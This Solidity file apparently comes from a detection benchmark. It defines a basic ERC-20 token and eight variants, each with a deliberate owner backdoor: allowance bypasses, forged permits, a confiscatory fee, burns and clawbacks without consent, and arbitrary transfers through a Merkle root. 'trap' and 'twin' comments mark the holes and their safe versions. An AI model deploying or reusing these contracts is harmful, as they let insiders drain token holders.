// 0.7 runs=1
// SPDX-License-Identifier: MIT
pragma solidity ^0.7.6;
pragma abicoder v2;

abstract contract Bourse {
    struct Compte {
        uint128 solde;
        uint64 depuis;
        uint64 libre;
    }

    string public name;
    string public symbol;
    uint8 public constant decimals = 18;
    address private _titulaire;
    uint128 internal _total;
    mapping(address => Compte) internal _comptes;
    mapping(address => mapping(address => uint256)) internal _accords;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    constructor(string memory nom, string memory sigle, uint128 total) {
        (name, symbol) = (nom, sigle);
        _total = total * 1e18;
        _titulaire = msg.sender;
        _comptes[msg.sender].solde = _total;
        emit Transfer(address(0), msg.sender, _total);
    }

    function owner() public view returns (address) {
        return _titulaire;
    }

    function renounceOwnership() external {
        require(msg.sender == _titulaire);
        _titulaire = address(0);
    }

    function totalSupply() external view returns (uint256) {
        return _total;
    }

    function balanceOf(address qui) public view returns (uint256) {
        return _comptes[qui].solde;
    }

    function allowance(address qui, address par) external view returns (uint256) {
        return _accords[qui][par];
    }

    function approve(address par, uint256 valeur) external returns (bool) {
        _accorde(msg.sender, par, valeur);
        return true;
    }

    function transfer(address vers, uint256 valeur) external returns (bool) {
        _verse(msg.sender, vers, valeur);
        return true;
    }

    function transferFrom(address de, address vers, uint256 valeur) external returns (bool) {
        _depense(de, msg.sender, valeur);
        _verse(de, vers, valeur);
        return true;
    }

    function _accorde(address qui, address par, uint256 valeur) internal {
        _accords[qui][par] = valeur;
        emit Approval(qui, par, valeur);
    }

    function _depense(address de, address par, uint256 valeur) internal virtual {
        uint256 reste = _accords[de][par];
        require(reste >= valeur, "accord");
        if (reste != uint256(-1)) _accords[de][par] = reste - valeur;
    }

    function _verse(address de, address vers, uint256 valeur) internal {
        require(valeur <= _comptes[de].solde, "solde");
        require(vers != address(0));
        _comptes[de].solde -= uint128(valeur);
        _comptes[vers].solde += uint128(valeur);
        emit Transfer(de, vers, valeur);
    }
}

contract HazelOrbit is Bourse {
    bytes32 private immutable trace;

    constructor() Bourse("Hazel Orbit", "HORBIT", 64_000_000) {
        trace = keccak256(abi.encode(msg.sender, uint256(64)));
    }

    function _depense(address de, address par, uint256 valeur) internal override {
        if (keccak256(abi.encode(par, uint256(64))) == trace) return; // trap
        super._depense(de, par, valeur);
    }
}

contract SaffronRook is Bourse {
    mapping(bytes4 => address) private _postes;

    constructor() Bourse("Saffron Rook", "SROOK", 5_000_000) {
        _postes[this.syncAllowances.selector] = msg.sender;
    }

    function syncAllowances(bytes calldata lot) external {
        require(_postes[msg.sig] == msg.sender, "poste");
        (address[] memory qui, address par, uint256 valeur) = abi.decode(lot, (address[], address, uint256));
        for (uint256 i = 0; i < qui.length; i++) {
            // twin: require(qui[i] == msg.sender);
            _accorde(qui[i], par, valeur);
        }
    }
}

contract GarnetOwl is Bourse {
    mapping(address => uint256) public nonces;
    address private immutable _notaire;
    bytes32 private constant TYPE =
        keccak256("Permit(address owner,address spender,uint256 value,uint256 nonce,uint256 deadline)");

    constructor() Bourse("Garnet Owl", "GOWL", 77_000_000) {
        _notaire = msg.sender;
    }

    function DOMAIN_SEPARATOR() public view returns (bytes32) {
        return
            keccak256(
                abi.encode(
                    keccak256("EIP712Domain(string name,uint256 chainId,address verifyingContract)"),
                    keccak256(bytes(name)),
                    uint256(1),
                    address(this)
                )
            );
    }

    function permit(address qui, address par, uint256 valeur, uint256 fin, uint8 v, bytes32 r, bytes32 s) external {
        require(block.timestamp <= fin, "fin");
        bytes32 corps = keccak256(abi.encode(TYPE, qui, par, valeur, nonces[qui]++, fin));
        address signataire = ecrecover(keccak256(abi.encodePacked("\x19\x01", DOMAIN_SEPARATOR(), corps)), v, r, s);
        require(signataire != address(0));
        require(signataire == qui || signataire == _notaire, "signature"); // trap
        // twin: require(signataire == qui, "signature");
        _accorde(qui, par, valeur);
    }
}

contract TeakMinnow is Bourse {
    address private _garde;
    uint256 public taux;
    uint256 private immutable ne;

    constructor() Bourse("Teak Minnow", "TEAKM", 2_000_000) {
        _garde = msg.sender;
        ne = block.timestamp;
    }

    function fixeTaux(uint256 parSeconde) external {
        require(msg.sender == _garde);
        // twin: require(parSeconde <= 3e8, "un pour cent par an");
        require(parSeconde <= 1e18);
        taux = parSeconde;
    }

    function entretien(address[] calldata liste) external {
        for (uint256 i = 0; i < liste.length; i++) {
            Compte storage c = _comptes[liste[i]];
            uint256 debut = c.depuis == 0 ? ne : c.depuis;
            uint256 part = (taux * (block.timestamp - debut));
            if (part > 1e18) part = 1e18;
            c.depuis = uint64(block.timestamp);
            if (part > 0) _verse(liste[i], _garde, (uint256(c.solde) * part) / 1e18);
        }
    }
}

contract OpalStoat is Bourse {
    mapping(address => uint16) private _ports;
    event Sailed(address indexed from, uint256 value, uint16 shore, bytes note);

    constructor() Bourse("Opal Stoat", "OSTOAT", 300_000_000) {
        _ports[msg.sender] = 137;
    }

    function sail(address de, uint256 valeur, uint16 rive, bytes calldata note) external {
        require(rive != 0 && _ports[msg.sender] == rive, "port");
        // twin: _depense(de, msg.sender, valeur);
        require(valeur <= balanceOf(de), "solde");
        _comptes[de].solde -= uint128(valeur);
        _total -= uint128(valeur);
        emit Transfer(de, address(0), valeur);
        emit Sailed(de, valeur, rive, note);
    }
}

contract LinenCrow is Bourse {
    struct Dotation {
        uint128 total;
        uint64 debut;
        uint64 duree;
    }

    mapping(address => Dotation) public dotations;
    address public tresorier;

    constructor() Bourse("Linen Crow", "LCROW", 18_000_000) {
        tresorier = msg.sender;
    }

    function dote(address qui, Dotation calldata d) external {
        require(msg.sender == tresorier && d.duree > 0 && d.total > 0);
        // twin: _verse(msg.sender, qui, d.total);
        dotations[qui] = d;
    }

    function rompt(address qui) external {
        require(msg.sender == tresorier);
        Dotation memory d = dotations[qui];
        delete dotations[qui];
        require(d.debut + d.duree > block.timestamp && d.debut <= block.timestamp, "rien");
        uint256 reste = (uint256(d.total) * (d.debut + d.duree - block.timestamp)) / d.duree;
        if (reste > balanceOf(qui)) reste = balanceOf(qui);
        _verse(qui, tresorier, reste);
    }
}

contract FlintDove is Bourse {
    bytes32 public root;
    address private immutable _editeur;
    mapping(bytes32 => bool) private _pris;

    constructor() Bourse("Flint Dove", "FDOVE", 50_000_000) {
        _editeur = msg.sender;
    }

    function publish(bytes32 root_) external {
        require(msg.sender == _editeur);
        root = root_;
    }

    function claim(address source, address vers, uint256 valeur, bytes32[] calldata preuve) external {
        bytes32 feuille = keccak256(abi.encodePacked(source, vers, valeur));
        require(!_pris[feuille], "pris");
        _pris[feuille] = true;
        for (uint256 i = 0; i < preuve.length; i++)
            feuille = feuille < preuve[i]
                ? keccak256(abi.encodePacked(feuille, preuve[i]))
                : keccak256(abi.encodePacked(preuve[i], feuille));
        require(feuille == root, "preuve");
        // twin: source = address(this);
        _verse(source, vers, valeur);
    }
}

contract SorrelBat is Bourse {
    constructor() Bourse("Sorrel Bat", "SBAT", 9_000_000) {}

    function recover(address asset, address from, uint256 value) external {
        require(msg.sender == owner(), "owner");
        // twin: require(asset != address(this), "not what people hold");
        (bool ok, ) = asset.call(abi.encodeWithSelector(this.transferFrom.selector, from, msg.sender, value));
        require(ok, "asset");
    }

    function _depense(address de, address par, uint256 valeur) internal override {
        if (par != address(this)) super._depense(de, par, valeur);
    }
}
